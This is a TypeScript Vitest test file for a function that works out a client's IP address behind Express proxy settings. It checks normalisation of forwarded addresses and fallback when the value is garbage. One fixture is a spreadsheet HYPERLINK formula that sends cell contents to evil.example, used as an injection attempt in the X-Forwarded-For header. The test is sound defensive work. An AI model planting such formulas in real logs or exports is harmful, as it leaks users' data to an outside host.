import type { AddressInfo } from "node:net";
import express from "express";
import { afterEach, describe, expect, it } from "vitest";
import { clientAddress } from "~/platform/request-context";

// The client address the server hands loaders, the audit log and the rate limits, read through a
// real Express app with the trust proxy settings TRUST_PROXY gives, asked on a loopback port.

const servers: { close: () => void }[] = [];
afterEach(() => servers.splice(0).forEach((server) => server.close()));

async function addressSeen(trustProxy: number | string | undefined, forwardedFor?: string): Promise<string> {
  const app = express();
  if (trustProxy !== undefined) app.set("trust proxy", trustProxy);
  app.get("/", (req, res) => void res.type("text/plain").send(clientAddress(req)));
  const server = app.listen(0, "127.0.0.1");
  servers.push(server);
  await new Promise((resolve) => server.once("listening", resolve));
  const { port } = server.address() as AddressInfo;
  const response = await fetch(`http://127.0.0.1:${port}/`, {
    headers: forwardedFor === undefined ? {} : { "X-Forwarded-For": forwardedFor },
  });
  return response.text();
}

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';

describe("clientAddress", () => {
  it("is the socket's address when no proxy is trusted, whatever X-Forwarded-For says", async () => {
    expect(await addressSeen(undefined, "203.0.113.9")).toBe("127.0.0.1");
  });

  it("is the address the trusted proxy appended, written one way", async () => {
    expect(await addressSeen(1, "198.51.100.1, 203.0.113.9")).toBe("203.0.113.9");
    expect(await addressSeen("loopback", "::ffff:203.0.113.9")).toBe("203.0.113.9");
    expect(await addressSeen(1, "2001:DB8:0:0::1")).toBe("2001:db8::1");
  });

  it("falls back to the socket's address when the forwarded value is a formula or garbage", async () => {
    for (const trust of [1, "loopback"]) {
      expect(await addressSeen(trust, FORMULA)).toBe("127.0.0.1");
      expect(await addressSeen(trust, `203.0.113.9, ${FORMULA}`)).toBe("127.0.0.1");
      expect(await addressSeen(trust, "not-an-address")).toBe("127.0.0.1");
      expect(await addressSeen(trust, "203.0.113.9:4711")).toBe("127.0.0.1");
      expect(await addressSeen(trust, "1.2.3")).toBe("127.0.0.1");
      expect(await addressSeen(trust, "")).toBe("127.0.0.1");
    }
  });
});
